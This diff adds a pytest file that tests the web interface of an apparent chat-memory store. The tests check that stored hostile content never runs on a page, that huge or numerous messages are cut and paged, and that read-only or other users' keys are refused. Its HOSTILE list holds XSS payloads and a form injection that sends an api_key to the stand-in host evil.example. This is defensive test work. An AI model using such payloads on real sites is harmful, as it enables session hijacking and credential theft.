@@ -1,0 +1,189 @@
+"""What is hostile or huge on the page: it never runs, and pages stay small."""
+
+import time
+from typing import Any
+from uuid import uuid4
+
+import pytest
+from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+
+from langchain_zepstore import ZepClient
+from langchain_zepstore.models import Memory, Message
+from langchain_zepstore.server import ApiKey, create_app
+from tests.integration.server.test_ui_conversation import messages, opened, path, say
+from tests.support.pages import Browser, Shown, browser_of
+
+MEGABYTE = 2**20
+pytestmark = pytest.mark.promise(
+    "what is stored never runs on the page, and is cut where it is huge"
+)
+
+
+@pytest.fixture
+def session_id() -> str:
+    return f"hostile {uuid4()}"
+
+
+def assert_harmless(page: Shown) -> None:
+    """Check that nothing runs, is loaded from elsewhere, or leads to a script."""
+    for each in page.all():
+        assert each.name not in {"style", "iframe", "object", "embed", "base"}
+        assert not [name for name in each.attributes if name.startswith("on") or name == "style"]
+        is_link = each.attributes.get("rel") == "noopener noreferrer nofollow"
+        for name in each.attributes.keys() & {"src", "action", "formaction", "hx-get", "href"}:
+            url = each.attributes[name]
+            assert url.startswith("https://" if is_link else ("/ui", "#main")), (each.name, url)
+    assert [each.text for each in page.all("script")] == [""] * len(page.all("script"))
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<style>body{display:none}</style>",
+    "[link](javascript:alert(1)) [data](data:text/html,<script>) <javascript:alert(1)>",
+    "[a]( java\nscript:alert(1)) [b](vbscript:x) [c](&#106;avascript:x) [d](/ui/logout)",
+    "![picture](https://evil.example/track.png) ![p](data:image/svg+xml;base64,PHN2Zy8+)",
+    "</div></li></ol></main><form action=https://evil.example><input name=api_key>",
+    '"><svg onload=alert(1)>',
+    "| a |\n| :-: |\n| <b onclick=x> |",
+    "```<script>\nalert(1)\n```\n<!-- -->",
+    "{{ visit.client }} {% include 'login.html' %}",
+    "[ok](https://example.org/) <https://example.org>",
+]
+
+
+async def test_what_is_stored_never_runs(browser: Browser, page_store, session_id) -> None:
+    user_id = f"<b>{uuid4()}\"'"
+    history = page_store.chat_history(session_id, user_id=user_id)
+    for text in HOSTILE:
+        call: Any = {"name": text, "args": {text: text}, "id": text}
+        history.add_messages(
+            [
+                HumanMessage(text),
+                AIMessage(text, tool_calls=[call], additional_kwargs={"reasoning_content": text}),
+                ToolMessage(text, tool_call_id=text, name=text, artifact={text: text}),
+            ]
+        )
+    said = Message(role=HOSTILE[1], content="role", metadata={HOSTILE[0]: 1, "lang": '"x'})
+    page_store.memory.add_memory(session_id, Memory(messages=[said]))
+    for title in HOSTILE[:4]:
+        page_store.memory.organize_session(
+            session_id, title=title, tags=[title], metadata={title: title}
+        )
+        page = await opened(browser, session_id)
+        assert_harmless(page)
+        assert page.all("h1")[0].text == title
+    assert "alert(1)" in page.text
+    assert_harmless(await browser.open("/ui", params={"user_id": user_id}))
+    assert_harmless(await browser.open("/ui", params={"user_id": HOSTILE[7], "q": HOSTILE[0]}))
+    assert_harmless(await browser.open("/ui/sessions/%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
+
+
+async def test_controls_can_be_seen(browser: Browser, page_store, session_id) -> None:
+    text = "ab\x07c\x1b[31md\u202eevil\u202c\u2066x\u2069\x85\r\nnext"
+    page_store.chat_history(session_id).add_messages(
+        [HumanMessage(text), AIMessage(f"`{text}`"), ToolMessage(text, tool_call_id="1")]
+    )
+    page_store.memory.organize_session(session_id, title="ti\u202etle")
+    page = await opened(browser, session_id)
+    assert not set("\x07\x1b\u202e\u202c\u2066\u2069\x85") & set(page.text)
+    assert "b\u2407c\u241b[31md[U+202E]evil[U+202C]" in page.text
+    assert page.all("h1")[0].text == "ti[U+202E]tle"
+    assert page.all("h1")[0].all("bdi")
+    assert all("dir" in each.attributes for each in page.all("div", class_="body"))
+
+
+async def test_a_language_that_is_known_is_named(browser: Browser, page_store, session_id) -> None:
+    said = [
+        Message(role="human", content=tag, metadata={"language": tag}) for tag in ("de", "ar-EG")
+    ]
+    page_store.memory.add_memory(session_id, Memory(messages=said))
+    page = await opened(browser, session_id)
+    items = page.all("li", class_="message human")
+    assert [each.attributes["lang"] for each in items] == ["de", "ar-EG"]
+
+
+async def assert_small(browser: Browser, where: str) -> Shown:
+    """Check that a page is small and quick: the best of three, for other tests run beside it."""
+    seconds = []
+    for _ in range(3):
+        begun = time.process_time()
+        page = await browser.open(where)
+        seconds.append(time.process_time() - begun)
+        assert page.status == 200
+        assert len(page.source.encode()) < MEGABYTE
+    assert min(seconds) < 1, f"{min(seconds):.2f} s of CPU"
+    return page
+
+
+async def test_a_message_of_15_megabytes_is_cut(browser: Browser, page_store, session_id) -> None:
+    say(page_store, session_id, HumanMessage("<&\"'ü" * 2_000_000, id="big"), AIMessage("Ok."))
+    for where in (path(session_id), f"{path(session_id)}/messages/big"):
+        page = await assert_small(browser, where)
+        assert "This is the beginning of a long message." in page.text
+    assert_harmless(page)
+    page = await browser.open(f"{path(session_id)}/messages/big/edit")
+    assert (page.status, "too large" in page.text) == (400, True)
+    page_store.message.delete_message(session_id, "big")
+    await assert_small(browser, "/ui")
+    answer = await browser.http.get(f"{path(session_id)}/messages/big/download")
+    assert len(answer.json()["content"]) == 10_000_000
+
+
+async def test_many_large_messages_are_read_in_pages(
+    browser: Browser, page_store, session_id
+) -> None:
+    text = "**a** `b` [c](https://example.org) \n\n- d\n" * 500
+    said = [Message(role="ai", content=f"{n}\n\n{text}") for n in range(40)]
+    page_store.memory.add_memory(session_id, Memory(messages=said))
+    page = await assert_small(browser, path(session_id))
+    assert messages(page)[-1].startswith("39 ")
+    assert any(each.text == "Earlier messages" for each in page.all("a"))
+
+
+async def test_a_conversation_of_10_000_messages(browser: Browser, page_store, session_id) -> None:
+    said = [Message(role="human", content=f"number {n}", uuid=f"m{n}") for n in range(10_000)]
+    page_store.memory.add_memory(session_id, Memory(messages=said))
+    for query, last in (("", "9999"), ("?around=m5000", "5019"), ("?before=m200", "199")):
+        page = await assert_small(browser, path(session_id) + query)
+        assert messages(page)[-1] == f"number {last}"
+    assert "10,000 messages" in page.text
+
+
+async def test_1000_calls_of_tools(browser: Browser, page_store, session_id) -> None:
+    calls: Any = [{"name": "f", "args": {"x": "y" * 500}, "id": str(n)} for n in range(1000)]
+    answers = [ToolMessage("z" * 500, tool_call_id=str(n)) for n in range(1000)]
+    say(page_store, session_id, AIMessage("", tool_calls=calls, id="calls"), *answers)
+    page = await assert_small(browser, f"{path(session_id)}?around=calls")
+    assert "There are more tool calls." in page.text
+    assert len(page.all("details", class_="call")) == 20
+    assert page.all("details", class_="call")[0].text.endswith("z" * 500)
+    await assert_small(browser, path(session_id))
+
+
+async def test_readers_see_no_buttons_and_are_refused(page_store: ZepClient, session_id) -> None:
+    say(page_store, session_id, HumanMessage("hi", id="q"))
+    keys = [ApiKey("reader", read_only=True), ApiKey("alices", user_id="alice")]
+    app = create_app(page_store, ui=True, api_keys=keys)
+    reader = browser_of(app)
+    await reader.press(await reader.open("/ui/login"), "Sign in", api_key="reader")
+    page = await opened(reader, session_id)
+    labels = {each.text for each in page.all("button")}
+    assert labels == {"Search", "Sign out", "Export"}
+    form = {"token": page.token, "feedback": "up", "title": "x", "tags": "x", "content": "x"}
+    form["confirmation"] = session_id
+    actions = ["pin", "archive", "rename", "tag", "delete", "restore", "erase"]
+    actions += [f"messages/q/{action}" for action in ("delete", "restore", "edit", "rate")]
+    for action in actions:
+        answer = await reader.http.post(f"{path(session_id)}/{action}", data=form)
+        assert (answer.status_code, "for reading only" in answer.text) == (403, True), action
+    alice = browser_of(app)
+    await alice.press(await alice.open("/ui/login"), "Sign in", api_key="alices")
+    form["token"] = (await alice.open("/ui")).token
+    for view in ("", "/export", "/messages/q", "/messages/q/edit", "/messages/q/download"):
+        assert (await alice.open(path(session_id) + view)).status == 404, view
+    assert (await alice.http.get(f"{path(session_id)}/live")).status_code == 204
+    for action in actions:
+        answer = await alice.http.post(f"{path(session_id)}/{action}", data=form)
+        assert answer.status_code == 404, action
+    assert page_store.message.count(session_id) == 1
